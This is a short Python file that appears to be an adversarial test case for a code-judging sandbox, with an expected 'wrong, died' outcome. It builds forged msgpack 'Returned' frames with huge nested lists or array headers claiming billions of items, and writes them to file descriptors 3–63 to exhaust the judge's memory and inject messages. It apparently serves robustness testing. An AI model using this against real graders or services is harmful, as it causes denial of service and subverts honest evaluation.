"""Exhaust: millions of small items, and a frame of them made by hand, around the cell's bounds.

Goal: each byte on the wire becomes an object of a hundred bytes in the judge.
Promise: S4
Verdict: wrong, died
"""

import os
import struct

import msgspec


def total(n):
    return [None] * 3_000_000 if n < 5 else [[] for _ in range(90_000)]


def blend(x, share):
    tree = [[]] * 250_000 if share < 0.5 else b""
    header = msgspec.msgpack.encode({"type": "Returned", "id": 3, "value": tree})
    if share > 0.5:  # arrays that announce four thousand million items
        header = header[:-2] + b"\xdd\xff\xff\xff\xff" * 50_000
    frame = struct.pack("<II", len(header), 0) + header
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, frame)
        except OSError:
            continue
    return 0
